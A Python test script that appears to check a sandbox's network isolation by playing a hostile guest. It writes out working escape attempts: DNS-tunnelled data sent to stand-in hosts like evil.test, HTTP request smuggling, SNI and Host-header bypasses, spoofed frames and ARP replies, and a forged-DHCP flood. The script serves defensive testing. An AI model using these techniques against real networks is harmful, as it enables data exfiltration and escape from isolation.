"""What a hostile guest tries on the network: one line for each attempt. argv:
address of good.test's TLS, HTTP and echo ports, and of a port on the host's loopback."""
import errno, json, os, socket, ssl, struct, sys, time

TLS, HTTP, ECHO, HOSTPORT = map(int, sys.argv[1:5])
GW, GW6 = "100.127.255.1", "fd62:7269:6700::1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:  # the guest's own address
    u.connect((GW, 53))
    ME = u.getsockname()[0]


def attempt(name, f):
    start = time.monotonic()
    try:
        r = f()
    except Exception as e:
        r = "%s: %s" % (type(e).__name__, e)
    quick = "quick" if time.monotonic() - start < 4 else "slow"
    print("%s: %s: %s" % (name, quick, str(r).replace("\n", "\\n")), flush=True)


def tcp(host, port, data=None, timeout=20):
    with socket.create_connection((host, port), timeout=timeout) as s:
        if data is None:
            return "connected"
        s.sendall(data)
        out = b""
        while b := s.recv(65536):
            out += b
        return out[:300]


def udp(host, port, data=b"x"):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.connect((host, port))
    s.send(data)
    return s.recv(4096)


def query(name, qtype, server=GW):
    q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    r = udp(server, 53, q)
    return "rcode %d answers %d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])


def tls(sni, host="good.test"):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, TLS), timeout=20) as s, c.wrap_socket(s, server_hostname=sni) as t:
        t.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (sni or "x").encode())
        return t.recv(4096)[:60]


def http(*requests, host="good.test"):
    return tcp(host, HTTP, b"".join(requests))


def req(host, path=b"/", extra=b"", close=True):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\n%s%s\r\n" % (path, host, extra, b"Connection: close\r\n" if close else b"")


def frame(dst=None, src=None, typ=0x0800, payload=b""):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    mac = lambda t: bytes.fromhex(t.replace(":", ""))
    own = open("/sys/class/net/eth0/address").read().strip()
    s.send(mac(dst or "02:62:72:69:67:01") + mac(src or own) + struct.pack(">H", typ) + payload)
    return "sent"


def ip4(src, dst, proto, body, frag=0, ihl=5, options=b""):
    h = struct.pack(">BBHHHBBH4s4s", 0x40 | ihl, 0, 20 + len(options) + len(body), 1, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    c = sum(struct.unpack(">%dH" % (len(h) // 2), h))
    c = ~((c >> 16) + (c & 0xffff)) & 0xffff
    return h[:10] + struct.pack(">H", c) + h[12:] + body


h = "good.test:%d" % HTTP
g = h.encode()
# what is allowed
attempt("ok name", lambda: len(socket.getaddrinfo("good.test", 1)) > 0)
attempt("ok tls", lambda: tls("good.test"))
attempt("ok http", lambda: http(req(g)))
attempt("ok echo", lambda: tcp("good.test", ECHO, b"hello\n")[:5])
attempt("ok host", lambda: tcp("host.brig.internal", HOSTPORT, b"hello\n")[:5])
attempt("ok page", lambda: b"governed" in tcp("brig.internal", 80, req(b"brig.internal")))
# 1: names
attempt("name", lambda: socket.getaddrinfo("aGVsbG8.evil.test", 443))
for t in (1, 28, 16, 10, 5, 15, 255, 65):
    attempt("query %d" % t, lambda: query("c2VjcmV0LWRhdGE." * 3 + "tunnel.test", t))
attempt("query txt of good", lambda: query("good.test", 16))
attempt("query https of good", lambda: query("good.test", 65))
# 2: other resolvers
attempt("udp resolver", lambda: query("good.test", 1, "8.8.8.8"))
attempt("udp resolver 6", lambda: query("good.test", 1, "2001:4860:4860::8888"))
for p in (53, 853, 443):
    attempt("tcp resolver %d" % p, lambda: tcp("1.1.1.1", p))
# 3: addresses
attempt("raw ip", lambda: tcp("192.0.2.1", 443))
attempt("raw ip 6", lambda: tcp("2001:db8::1", 443))
attempt("unused synthetic", lambda: tcp("198.19.200.200", TLS))
attempt("other port", lambda: tcp("good.test", 9))
# 4: another name inside
attempt("sni", lambda: tls("other.test"))
attempt("no sni", lambda: tls(None))
attempt("not tls", lambda: tcp("good.test", TLS, b"SSH-2.0-x\r\n"))
attempt("host header", lambda: http(req(b"other.test")))
attempt("absolute form", lambda: http(req(g, b"http://other.test/")))
attempt("connect", lambda: http(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"))
attempt("second request", lambda: http(req(g, close=False), req(b"other.test")))
attempt("smuggled", lambda: http(req(g, extra=b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req(b"other.test")))
h2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
block = b"\x82\x86\x84\x41" + bytes([10]) + b"other.test"
attempt("h2 authority", lambda: b"other" in tcp("good.test", HTTP, h2 + struct.pack(">I", len(block))[1:] + b"\1\5" + struct.pack(">I", 1) + block))
# 5: names that lead inside
for n in ("meta.test", "private.test", "loop.test", "mapped.test", "nat64.test", "sixtofour.test", "ula.test"):
    attempt("floor " + n, lambda: tcp(n, 443, b"\x16\x03\x01\x00\x05hello", 20))
# 6: other protocols
attempt("udp", lambda: udp("good.test", ECHO))
attempt("udp to an address", lambda: udp("192.0.2.1", 4433))
frame(src="02:00:00:00:00:99", payload=ip4(ME, "192.0.2.1", 17, b"x" * 20))
frame(payload=ip4("100.127.255.9", "192.0.2.1", 17, b"x" * 20))
frame(payload=ip4(ME, "192.0.2.1", 17, b"x" * 20, frag=0x2000))
frame(payload=ip4(ME, "192.0.2.1", 17, b"x" * 20, ihl=6, options=b"\1\1\1\0"))
frame(typ=0x0806, payload=struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, b"\2bad\0\0", socket.inet_aton(GW), b"\0" * 6, socket.inet_aton(GW)))
frame(typ=0x88cc, payload=b"x" * 60)
for _ in range(200):
    frame(dst="ff:ff:ff:ff:ff:ff", payload=ip4("0.0.0.0", "255.255.255.255", 17, struct.pack(">HHHH", 68, 67, 28, 0) + os.urandom(20)))
attempt("ping", lambda: os.popen("ping -c1 -W20 8.8.8.8; ping -c1 -W20 2001:db8::1").read())
attempt("still alive", lambda: tcp("good.test", ECHO, b"hello\n")[:5])
# 7: the host by the gateway
for p in (HOSTPORT, 22, 1):
    attempt("gateway %d" % p, lambda: tcp(GW, p))
attempt("gateway 6", lambda: tcp(GW6, HOSTPORT))
attempt("host, other port", lambda: tcp("host.brig.internal", 1))
